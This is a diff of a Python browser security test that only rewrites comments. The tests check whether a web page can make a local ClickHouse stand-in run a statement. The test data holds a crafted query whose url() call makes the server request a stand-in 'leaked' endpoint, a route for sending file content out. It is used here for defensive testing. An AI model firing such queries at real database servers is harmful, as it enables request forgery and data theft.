@@ -15,7 +15,7 @@ from telegram_chats import Telegram
 
 from pulse.settings import SANDBOX_TELEGRAM_TOKEN
 
-# Everything that HTML and scripts can send to another address. Returns what the page learned from the answers.
+# Tries all the ways in which HTML and scripts can send to another address; returns what the page learned from answers.
 TRY = """async (address) => {
   const learned = [];
   const image = new Image();
@@ -86,7 +86,8 @@ def opened(browser: Browser, address: str) -> "Iterator[Page]":
         yield page
 
 
-# Chromium resolves every name in localhost to this machine: another site, and a name that was made to resolve here.
+# Chromium resolves every name below `localhost` to this machine. So such a name can stand for another site, or for a
+# name that its owner has made to resolve to this machine.
 SITES = ["http://site.localhost:{}/", "http://127.0.0.1:{}/"]
 
 
@@ -95,7 +96,7 @@ SITES = ["http://site.localhost:{}/", "http://127.0.0.1:{}/"]
 def test_a_web_page_cannot_run_a_statement(
     browser: Browser, elsewhere: Elsewhere, clickhouse_server: clickhouse_stand_in.Server, site: str, host: str
 ) -> None:
-    # `url` asks the other site, which would get the content of a file.
+    # `url` makes the server send a request to the other site, which could carry the content of a file.
     query = f"SELECT * FROM url('http://127.0.0.1:{elsewhere.port}/leaked', 'LineAsString')"  # noqa: S608
     address = f"http://{host}:{clickhouse_server.port}/?user=pulse&password=sandbox-only&query={quote(query)}"
     with opened(browser, site.format(elsewhere.port)) as page:
